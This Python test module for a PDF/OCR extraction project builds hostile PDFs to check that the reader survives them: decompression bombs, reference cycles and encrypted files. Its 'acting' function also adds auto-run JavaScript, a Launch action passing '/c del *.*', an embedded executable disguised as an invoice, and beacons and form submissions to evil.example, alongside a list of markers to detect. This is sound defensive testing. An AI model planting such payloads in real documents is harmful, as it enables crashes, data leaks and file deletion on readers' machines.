"""PDFs built to break a reader or to make it do something: bombs, loops and active content."""

import io
import zlib
from typing import Any

import pikepdf

from tests.ocr_extract.bad_files import one_page, pdf_file, pdf_stream
from tests.ocr_extract.builders import INVOICE, pdf

PIXEL_JS = "app.alert('run'); this.exportDataObject({cName: 'x.exe', nLaunch: 2});"
MARKS = (b"JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/GoToR", b"/URI",
         b"/SubmitForm", b"/ImportData", b"/XFA", b"calc.exe", b"evil.example", b"MZ\x90")  # fmt: skip
"""None of these may be in a PDF that Serein made."""


def nested_flate(depth: int = 12, megabytes: int = 200) -> bytes:
    """Zeros, compressed again and again: a few hundred bytes for two hundred megabytes."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    for _ in range(depth - 1):
        content = zlib.compress(content, 9)
    return one_page(content, b"/Filter [" + b"/FlateDecode " * depth + b"]")


def lzw_bomb(megabytes: int = 400) -> bytes:
    """LZW codes that each stand for a longer run of blanks, compressed again."""
    bits, table = [], 258
    codes = [256, 32]
    while len(codes) < 3800:
        codes.append(table)
        table += 1
    width, known = 9, 258
    for at, code in enumerate(codes):
        bits.append(f"{code:0{width}b}")
        if at >= 2:
            known += 1
        width = 9 if known < 511 else 10 if known < 1023 else 11 if known < 2047 else 12
    bits.append(f"{256:0{width}b}")
    stream = "".join(bits)
    once = int(stream.ljust(-(-len(stream) // 8) * 8, "0"), 2).to_bytes(-(-len(stream) // 8), "big")
    return one_page(zlib.compress(once * (megabytes // 7), 9), b"/Filter [/FlateDecode /LZWDecode]")


def predictor_bomb(columns: int = 2**30) -> bytes:
    """A predictor over rows of a gigabyte."""
    parms = b"/DecodeParms << /Predictor 15 /Columns %d /Colors 4 /BitsPerComponent 16 >>" % columns
    return one_page(zlib.compress(b"\x02" + bytes(100_000)), b"/Filter /FlateDecode " + parms)


def petabyte_stream() -> bytes:
    """A stream that claims a petabyte, and an image that claims as many pixels."""
    pixels = b"<< /Type /XObject /Subtype /Image /Width 33554432 /Height 33554432 /ColorSpace /DeviceGray"
    image = pixels + b" /BitsPerComponent 8 /Length 1125899906842624 >>\nstream\n" + bytes(400) + b"\nendstream"
    return pdf_file([_CATALOG, _PAGES, _PAGE_OF_AN_IMAGE, pdf_stream(b"q 595 0 0 842 0 0 cm /I Do Q"), image])


def zeros_as_image(side: int = 60_000) -> bytes:
    """An image of 3.6 gigapixels of zeros in a few kilobytes."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8" % (
        side,
        side,
    )
    image = pdf_stream(data, entries + b" /Filter /FlateDecode")
    return pdf_file([_CATALOG, _PAGES, _PAGE_OF_AN_IMAGE, pdf_stream(b"q 595 0 0 842 0 0 cm /I Do Q"), image])


def inline_image_without_end() -> bytes:
    """An inline image without an end: everything after it may be its pixels."""
    content = b"q 100 0 0 100 0 0 cm BI /W 9999 /H 9999 /BPC 8 /CS /RGB /F /AHx ID " + b"ab" * 50_000
    return one_page(content, b"")


def outline_cycle() -> bytes:
    """Bookmarks whose next entry is the previous one, and whose parent is their child."""
    with pikepdf.open(io.BytesIO(pdf(INVOICE))) as file:
        one = file.make_indirect(pikepdf.Dictionary(Title="one"))
        two = file.make_indirect(pikepdf.Dictionary(Title="two", Parent=one, Next=one, First=one, Last=one))
        one.Next, one.First, one.Last, one.Parent = two, two, two, two
        file.Root.Outlines = file.make_indirect(pikepdf.Dictionary(First=one, Last=two, Count=2))
        return _saved(file)


def page_tree_cycle() -> bytes:
    """Pages whose only child is themselves."""
    return pdf_file([_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


def huge_size() -> bytes:
    """A cross-reference table that claims two billion objects."""
    return pdf(INVOICE).replace(b"/Size ", b"/Size 2147483647 % ")


def reference_to_itself() -> bytes:
    """A stream whose length refers to the stream itself."""
    content = b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return pdf_file([_CATALOG, _PAGES, page, content])


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGE_OF_AN_IMAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>"
)
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def acting(whole: bytes, act: str) -> bytes:
    """A document that does something as soon as it is opened."""
    with pikepdf.open(io.BytesIO(whole)) as file:
        root, page = file.Root, file.pages[0]
        if act == "javascript":
            root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=PIXEL_JS)
            names = pikepdf.Array(["go", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=PIXEL_JS)])
            if pikepdf.Name.Names not in root:
                root.Names = pikepdf.Dictionary()
            root.Names.JavaScript = pikepdf.Dictionary(Names=names)
        elif act == "launch":
            program = pikepdf.Dictionary(F="calc.exe", P="/c del *.*")
            root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, Win=program)
        elif act == "page action":
            close = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=PIXEL_JS)
            page.AA = pikepdf.Dictionary(O=close, C=close)
        elif act == "embedded program":
            spec = pikepdf.AttachedFileSpec(file, b"MZ\x90\x00 calc.exe", filename="invoice.exe")  # type: ignore[call-arg]
            file.attachments["invoice.exe"] = spec
        elif act == "remote":
            remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\evil.example\\share\\x.pdf", D="a")
            root.OpenAction = remote
            page.Annots = pikepdf.Array([_link({"S": pikepdf.Name.URI, "URI": "http://evil.example/beacon"})])
        elif act == "form":
            submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/form")
            field = pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="total", V="999,99",
                Rect=[100, 100, 200, 120], A=submit,
            )  # fmt: skip
            kept = file.make_indirect(field)
            page.Annots = pikepdf.Array([kept])
            xfa = file.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>run()</script></xdp:xdp>")
            root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([kept]), XFA=xfa)
        else:
            raise ValueError(act)
        return _saved(file)


ACTS = ("javascript", "launch", "page action", "embedded program", "remote", "form")


def _link(action: dict[str, Any]) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 595, 842], A=pikepdf.Dictionary(**action)
    )


def _saved(file: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def locked(whole: bytes, revision: int, *, user: str) -> bytes:
    """The document encrypted with this revision; with an empty user password it opens but may not be changed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(whole)) as file:
        aes = {"aes": revision >= 4, "metadata": revision >= 4}
        file.save(out, encryption=pikepdf.Encryption(user=user, owner="eigenaar", R=revision, **aes))  # type: ignore[arg-type]
    return out.getvalue()


def broken_lock() -> bytes:
    """An encryption dictionary that refers to nothing."""
    return pdf(INVOICE).replace(
        b"trailer\n<<", b"trailer\n<< /Encrypt << /Filter /Standard /V 5 /R 6 /O 9 /U (x) /P -1 >>"
    )
